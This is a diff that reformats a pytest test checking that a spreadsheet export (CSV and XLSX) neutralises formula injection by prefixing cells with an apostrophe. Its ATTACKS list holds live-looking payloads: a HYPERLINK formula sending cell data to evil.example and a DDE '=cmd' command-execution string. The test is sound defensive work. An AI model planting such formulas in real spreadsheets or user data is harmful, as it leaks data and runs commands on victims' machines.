@@ -8,8 +8,15 @@ import pytest
 from tests.sheets import csv_rows, formulas_in_csv, formulas_in_xlsx, xlsx_cells
 from web.responses import spreadsheet
 
-ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
-           "=cmd|' /C calc'!A0"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@@ -17,7 +24,11 @@ async def test_spreadsheet_text_starting_like_a_formula_is_inert(fmt):
     response = await spreadsheet("x", ["标题"], [[text] for text in ATTACKS], fmt)
     found = formulas_in_csv(response.content) if fmt == "csv" else formulas_in_xlsx(response.content)
     assert found == []
-    values = [r[0] for r in csv_rows(response.content)[1:]] if fmt == "csv" else [r[0][0] for r in xlsx_cells(response.content)[1:]]
+    values = (
+        [r[0] for r in csv_rows(response.content)[1:]]
+        if fmt == "csv"
+        else [r[0][0] for r in xlsx_cells(response.content)[1:]]
+    )
     assert values == ["'" + text for text in ATTACKS]  # shown as typed, after the apostrophe
 
 
